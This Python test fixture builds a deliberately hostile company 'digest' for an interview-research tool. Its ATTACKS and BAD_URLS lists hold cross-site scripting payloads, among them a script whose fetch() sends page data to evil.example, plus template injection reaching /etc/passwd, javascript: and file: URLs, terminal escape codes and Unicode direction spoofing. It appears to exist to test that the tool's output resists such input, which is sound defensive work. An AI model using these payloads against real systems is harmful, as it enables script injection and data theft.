"""What a hostile page may hold, and a digest made of nothing else."""

from __future__ import annotations

from researcher.models import (
    Answered,
    AskBack,
    Closing,
    Company,
    Digest,
    Evidence,
    Finding,
    Gap,
    Insider,
    KeyPages,
    Kind,
    Note,
    PartialDate,
    Preparation,
    Rapport,
    SourceRecord,
    TieIn,
    Touch,
)
from tests.digests import AS_OF, FETCHED, cited, found, question

ATTACKS = (
    "<script>fetch('https://evil.example/'+document.title)</script>",
    "<img src=https://evil.example/p.png onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    '"><iframe src="https://evil.example/"></iframe>',
    "{{ 7*7 }} {% include '/etc/passwd' %} {# x #} ${7*7}",
    "[click](javascript:alert(1)) ![x](https://evil.example/p.png) <https://evil.example/>",
    "# Heading\n\n- list\n\n| a | b |\n|---|---|\n---\n> quoted\n1. one",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J",
    "abc \u202etxet desrever\u202c \u2066isolated\u2069 z\u200bero \U000e0041\U000e0042",
    "&lt;b&gt; &#60;script&#62; &amp; `code` *em* __strong__ ~~no~~ $math$ https://evil.example/x",
    "A" * 3000,
    "\ud800 lone surrogate",
)
BAD_URLS = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "https://good.example@evil.example/",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/a b",
    "https://evil.example/)[x](javascript:alert(1)",
    "//evil.example/x",
    "https://evil.example/\u202egpj.exe",
    "https://evil.example/" + "x" * 4000,
    "java\tscript:alert(1)",
)


def nasty() -> Digest:
    """Return a digest in which every text and address is an attack, and one list has no end."""
    count = 0

    def bad(kind: Kind) -> tuple[Finding, ...]:
        nonlocal count
        made = []
        for attack in ATTACKS:
            url = BAD_URLS[count % len(BAD_URLS)]
            count += 1
            made.append(
                found(
                    kind,
                    attack,
                    Evidence(quote=attack, url=url, fetched_at=FETCHED, sha256="",
                             date=PartialDate(2026, 10, 1 + count % 28), source="website"),
                    detail=attack,
                    stance="challenge" if count % 2 else "priority",
                )
            )  # fmt: skip
        return tuple(made)

    endless = tuple(
        found(Kind.TECHNOLOGY, f"Tool {n} {ATTACKS[n % len(ATTACKS)]}", cited(f"Tool {n}"))
        for n in range(200)
    )
    return Digest(
        company=Company(url="javascript:alert(1)", name=ATTACKS[0]),
        description=" ".join(ATTACKS),
        as_of=AS_OF,
        role=ATTACKS[4],
        interviewer=ATTACKS[7],
        mission=bad(Kind.MISSION)[0],
        values=bad(Kind.VALUE),
        projects=bad(Kind.PROJECT),
        priorities=bad(Kind.PRIORITY),
        people=bad(Kind.PERSON),
        technologies=endless,
        culture=bad(Kind.CULTURE),
        news=bad(Kind.NEWS),
        facts=bad(Kind.FACT),
        key_pages=KeyPages(about=BAD_URLS[0], team=BAD_URLS[5]),
        feeds=BAD_URLS,
        questions=tuple(
            question(
                attack,
                attack,
                Evidence(quote=attack, url=url, fetched_at=FETCHED, sha256=""),
                audience=(attack,),
                why=attack,
                follow_ups=(attack,),
                strong=(attack,),
                weak=(attack,),
                ask_back=AskBack(question=attack, reply=attack),
                tie_in=TieIn(text=attack, evidence=()),
            )
            for attack, url in zip(ATTACKS, BAD_URLS, strict=True)
        ),
        preparation=tuple(
            Preparation(question=attack, why=attack, evidence=(cited(attack, url),))
            for attack, url in zip(ATTACKS, BAD_URLS, strict=True)
        ),
        rapport=(Rapport(topic=ATTACKS[1], evidence=(cited(ATTACKS[1]),)),),
        avoid=tuple(Rapport(topic=a, evidence=(cited(a),), kind="avoid") for a in ATTACKS),
        answered=tuple(Answered(question=a, evidence=(cited(a),), instead=a) for a in ATTACKS),
        insiders=tuple(
            Insider(role=a, why=a, questions=(a, a, a), evidence=(cited(a),)) for a in ATTACKS
        ),
        notes=tuple(
            Note(evidence=cited(a), touches=(Touch(kind=Kind.VALUE, name=a, evidence=cited(a)),))
            for a in ATTACKS
        ),
        closing=Closing(
            opening=ATTACKS[0],
            line=ATTACKS[1],
            evidence=(cited(ATTACKS[2]),),
            thanks="\n\n".join(ATTACKS),
        ),
        gaps=tuple(Gap(what=a, why=a, failed=n % 2 == 0) for n, a in enumerate(ATTACKS)),
        sources=tuple(
            SourceRecord(url=url, kind=attack, status=attack, fetched_at=FETCHED, note=attack)
            for attack, url in zip(ATTACKS, BAD_URLS, strict=True)
        ),
    )
